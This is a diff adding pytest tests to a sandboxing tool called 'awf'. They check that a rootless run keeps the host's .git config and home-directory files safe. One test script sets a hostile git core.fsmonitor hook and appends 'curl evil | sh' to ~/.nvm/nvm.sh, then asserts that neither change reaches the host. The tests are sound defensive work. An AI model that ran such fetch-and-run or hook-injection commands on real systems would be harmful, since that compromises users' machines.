@@ -216,3 +216,43 @@ def test_persist_home_dir_writes_through(awf, tool_user):
 def test_persist_home_dir_refuses_other_paths(awf, bad):
     r = awf(["-d", "allowed.test", "--persist-home-dir", bad], ["true"])
     assert r.rc != 0 and f"--persist-home-dir '{bad}'" in r.stderr, r.describe()
+
+
+def test_rootless_run_protects_repository_and_home(awf, repo_user, vnet):
+    """The same protections when the user runs awf without root (user namespace): overlayfs
+    and the binds over .git are made there."""
+    u = repo_user
+    os.makedirs(f"{u['home']}/.nvm")
+    with open(f"{u['home']}/.nvm/nvm.sh", "w") as f:
+        f.write("# real\n")
+    os.chown(f"{u['home']}/.nvm", u["uid"], u["gid"])
+    os.chown(f"{u['home']}/.nvm/nvm.sh", u["uid"], u["gid"])
+    logs = os.path.join(vnet.scratch_dir, f"logs-{u['name']}")
+    os.makedirs(logs)
+    os.chown(logs, u["uid"], u["gid"])
+    marker = os.path.join(u["home"], "fsmonitor-ran")
+    script = "; ".join([
+        f"git config core.fsmonitor 'touch {marker}' 2>/dev/null; echo config_rc=$?",
+        "echo 'curl evil | sh' >> $HOME/.nvm/nvm.sh; echo nvm_rc=$?",
+        "git config --list --local | grep -c -i -e extraheader -e " + TOKEN,
+        "git add -A && git commit -q --allow-empty -m rootless; echo commit_rc=$?",
+    ])
+    r = awf(["-d", "allowed.test", "--container-workdir", u["project"], *IDENTITY],
+            ["bash", "-c", script], logs_dir=logs,
+            prefix=["setpriv", f"--reuid={u['uid']}", f"--regid={u['gid']}", "--clear-groups",
+                    "env", "-C", u["project"]])
+    assert r.rc == 0, r.describe()
+    assert re.search(r"^config_rc=[1-9]", r.stdout, re.M), r.describe()
+    assert "nvm_rc=0" in r.stdout and "\n0\n" in r.stdout, r.describe()
+    assert "commit_rc=0" in r.stdout, r.describe()
+    assert open(f"{u['home']}/.nvm/nvm.sh").read() == "# real\n"
+    git(u, u["project"], "status")
+    assert not os.path.exists(marker)
+    assert git(u, u["project"], "log", "-1", "--format=%s").stdout.strip() == "rootless"
+
+
+def test_allow_git_write_names_a_missing_directory(awf):
+    r = awf(["-d", "allowed.test", "--allow-git-write", "/nonexistent-awf-repo"], ["true"])
+    assert r.rc != 0, r.describe()
+    assert "--allow-git-write '/nonexistent-awf-repo': not an existing directory" in r.stderr, \
+        r.describe()
